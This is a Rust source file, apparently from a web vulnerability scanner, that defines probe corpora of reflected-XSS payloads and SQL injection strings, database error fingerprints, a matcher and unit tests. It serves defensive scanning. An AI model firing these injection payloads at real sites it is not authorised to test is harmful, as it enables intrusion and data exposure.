// Copyright (c) 2025 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - SecureScan Probe Payloads
 * Canonical payload corpora and database error fingerprints
 *
 * @copyright 2025 Bountyy Oy
 * @license Proprietary
 */

/// Canonical reflected-XSS payload, also used for URL parameter probes.
pub const XSS_CANONICAL: &str = r#"<script>alert("XSS")</script>"#;

/// Reflected-XSS corpus. Payloads are tried in this order and a hit on any of
/// them ends testing for that input.
pub const XSS_PAYLOADS: &[&str] = &[
    XSS_CANONICAL,
    r#""><script>alert("XSS")</script>"#,
    r#"<img src=x onerror=alert("XSS")>"#,
    r#"javascript:alert("XSS")"#,
    r#"<svg onload=alert("XSS")>"#,
    r#"<img src="x" onerror="alert('XSS')">"#,
    r#"<iframe src="javascript:alert('XSS')"></iframe>"#,
];

/// Error-based SQL injection corpus for form inputs.
pub const SQLI_PAYLOADS: &[&str] = &[
    "' OR '1'='1",
    "' OR 1=1--",
    "' OR 1=1#",
    "' OR 1=1/*",
    "admin'--",
    "') OR ('1'='1",
    "' UNION SELECT NULL--",
    "' UNION SELECT NULL,NULL--",
    "' UNION SELECT NULL,NULL,NULL--",
    "1' AND '1'='1",
    "1 OR 1=1",
    "\" OR \"\"=\"",
];

/// Probe for URL query parameters: a bare quote is enough to break most
/// string contexts.
pub const SQLI_URL_PROBE: &str = "'";

/// Database error fingerprints. A response body containing any of these
/// (case-insensitive) is treated as a database error leaking to the client.
pub const SQL_ERRORS: &[&str] = &[
    "mysql_fetch_array",
    "ORA-",
    "Microsoft OLE DB Provider",
    "PostgreSQL query failed",
    "Warning: mysql_",
    "SQL syntax",
    "mysql_error",
    "valid MySQL result",
    "MySqlClient",
    "syntax error",
];

/// First fingerprint matching the body (case-insensitive), if any.
pub fn matched_sql_error(body: &str) -> Option<&'static str> {
    let lower = body.to_lowercase();
    SQL_ERRORS
        .iter()
        .find(|pattern| lower.contains(&pattern.to_lowercase()))
        .copied()
}

/// Case-insensitive check of a response body against the fingerprint set.
pub fn body_has_sql_error(body: &str) -> bool {
    matched_sql_error(body).is_some()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_corpus_sizes() {
        assert_eq!(XSS_PAYLOADS.len(), 7);
        assert_eq!(SQLI_PAYLOADS.len(), 12);
        assert_eq!(SQL_ERRORS.len(), 10);
    }

    #[test]
    fn test_canonical_payload_is_first() {
        assert_eq!(XSS_PAYLOADS[0], XSS_CANONICAL);
    }

    #[test]
    fn test_sql_error_detection_is_case_insensitive() {
        assert!(body_has_sql_error(
            "You have an error in your sql SYNTAX near ''"
        ));
        assert!(body_has_sql_error("ora-01756: quoted string not properly terminated"));
        assert!(!body_has_sql_error("<html><body>All good</body></html>"));
    }

    #[test]
    fn test_mysql_warning_fingerprint() {
        assert!(body_has_sql_error(
            "Warning: mysql_fetch_array() expects parameter 1 to be resource"
        ));
    }
}
